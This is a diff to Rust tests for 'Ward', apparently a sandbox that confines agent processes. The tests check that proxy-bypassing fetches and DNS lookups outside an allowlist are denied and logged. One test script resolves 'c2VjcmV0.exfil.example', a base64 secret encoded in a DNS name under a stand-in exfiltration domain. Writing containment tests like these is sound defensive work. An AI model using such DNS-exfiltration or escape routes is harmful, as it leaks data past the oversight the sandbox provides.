@@ -196,7 +196,7 @@ fn escape_via_a_dns_query_from_inside() {
         // (NXDOMAIN) on record.
         assert!(
             recs.iter().any(|r| r["kind"] == "net.direct"
-                && r["resource"] == "example.com"
+                && r["resource"] == "dns:example.com"
                 && r["decision"]["by"] == "builtin:dns"
                 && r["decision"]["result"] == "deny"),
             "the resolver's own query is not on record: {recs:?}"
@@ -300,16 +300,21 @@ fn escape_via_the_hosts_loopback_beyond_the_service_the_manifest_names() {
 
 #[test]
 fn escape_via_dns_past_the_sandboxs_resolver() {
-    // Programs that ignore the proxy variables reach an allowed name through the sandbox's own
-    // resolver and hosts file (its address inside, carried by Ward to the real one); any other
-    // name is NXDOMAIN and on record, so a query cannot carry data out.
-    with_servers(|hits| {
+    // Programs that ignore the proxy variables reach an allowed https name through the
+    // sandbox's own resolver and hosts file (its address inside, carried by Ward to the real
+    // one as a tunnel whose TLS server name must be the name); any other name is NXDOMAIN and
+    // on record, so a query cannot carry data out.
+    with_servers_at(&["44.1.1.1:443", "44.1.1.2:443"], |hits| {
         // On this side, `model.test` is the first test server (a private /etc/hosts for this
         // thread's processes: ward's proxy resolves with it).
         // SAFETY: unshare for this thread only.
         assert_eq!(unsafe { libc::unshare(libc::CLONE_NEWNS) }, 0);
         let hosts = tempfile::NamedTempFile::new().unwrap();
-        std::fs::write(hosts.path(), "127.0.0.1 localhost\n44.1.1.1 model.test\n").unwrap();
+        std::fs::write(
+            hosts.path(),
+            "127.0.0.1 localhost\n44.1.1.1 model.test\n44.1.1.2 other.test\n",
+        )
+        .unwrap();
         for cmd in [
             "mount --make-rprivate /".to_string(),
             format!("mount --bind {} /etc/hosts", hosts.path().display()),
@@ -326,12 +331,14 @@ fn escape_via_dns_past_the_sandboxs_resolver() {
         }
         let e = Env::new();
         // (The test server is on this network namespace's own address, which the manifest
-        // must name as well for the proxy to reach it.)
+        // must name as well for the proxy to reach it. Its "TLS" is plain text: the
+        // handshakes fail after the bytes went through Ward.)
         let manifest = "[[files]]\npath = \"PROJ\"\nmode = \"direct\"\n[network]\n\
-                        allow = [\"http://model.test\", \"http://44.1.1.1\"]\n";
-        let script = "getent hosts model.test; \
-            node -e \"fetch('http://model.test/n').then(r => r.text()).then(t => console.log('NODE', t), x => console.log('NODE-FAILED', x.cause ? x.cause.code : x))\"; \
-            curl -s -m 10 --noproxy '*' http://model.test/c; echo; \
+                        allow = [\"https://model.test\", \"https://44.1.1.1\", \"http://plain.test\"]\n";
+        let script = "getent hosts model.test; getent hosts other.test || echo OTHER-UNKNOWN; \
+            getent hosts plain.test || echo PLAIN-BY-PROXY-ONLY; \
+            node -e \"fetch('https://model.test/n').then(r => console.log('NODE', r.status), x => console.log('NODE-TLS', x.cause ? x.cause.code : x))\"; \
+            curl -s -m 10 --noproxy '*' https://model.test/c; echo CURL $?; \
             python3 -c \"import socket\ntry: print('RESOLVED', socket.gethostbyname('c2VjcmV0.exfil.example'))\nexcept Exception as x: print('NO-NAME', x)\"; \
             true";
         let o = e.run_manifest(manifest, "/bin/sh", script);
@@ -342,36 +349,45 @@ fn escape_via_dns_past_the_sandboxs_resolver() {
             "{t}"
         );
         assert!(
-            agent.contains("NODE hello from 44.1.1.1:80"),
-            "Node's fetch, which ignores proxy variables: {t}"
+            agent.contains("OTHER-UNKNOWN") && agent.contains("PLAIN-BY-PROXY-ONLY"),
+            "{t}"
         );
         assert!(
-            agent.contains("hello from 44.1.1.1:80\n") && agent.matches("hello from").count() == 2,
-            "{t}"
+            agent.contains("NODE-TLS"),
+            "Node's fetch got as far as TLS: {t}"
         );
         assert!(
             agent.contains("NO-NAME") && !agent.contains("RESOLVED"),
             "{t}"
         );
-        assert_eq!(hits[0].load(Ordering::SeqCst), 2);
+        // Both clients' ClientHellos reached the server through Ward; the other never.
+        assert_eq!(hits[0].load(Ordering::SeqCst), 2, "{t}");
         assert_eq!(hits[1].load(Ordering::SeqCst), 0);
         e.assert_recorded();
         let recs = e.records();
-        assert_eq!(
-            recs.iter()
-                .filter(|r| r["kind"] == "net.connect"
+        let by_name: Vec<_> = recs
+            .iter()
+            .filter(|r| {
+                r["kind"] == "net.connect"
                     && r["detail"]["via"] == "name"
-                    && r["resource"] == "http://model.test:80"
-                    && r["decision"]["result"] == "allow")
-                .count(),
-            2,
-            "{recs:?}"
-        );
+                    && r["resource"] == "https://model.test:443"
+                    && r["decision"]["result"] == "allow"
+            })
+            .collect();
+        assert_eq!(by_name.len(), 2, "{recs:?}");
+        assert!(recs.iter().any(|r| r["kind"] == "net.close"
+            && r["detail"]["via"] == "name"
+            && r["detail"]["up"].as_u64().unwrap_or(0) > 0));
         assert!(
             recs.iter().any(|r| r["kind"] == "net.direct"
-                && r["resource"] == "c2vjcmv0.exfil.example"
+                && r["resource"] == "dns:c2vjcmv0.exfil.example"
                 && r["decision"]["result"] == "deny"),
             "the query is on record: {recs:?}"
+        );
+        assert!(
+            t.contains("refused by the sandbox's resolver")
+                && t.contains("c2vjcmv0.exfil.example (1x)"),
+            "{t}"
         );
     });
 }
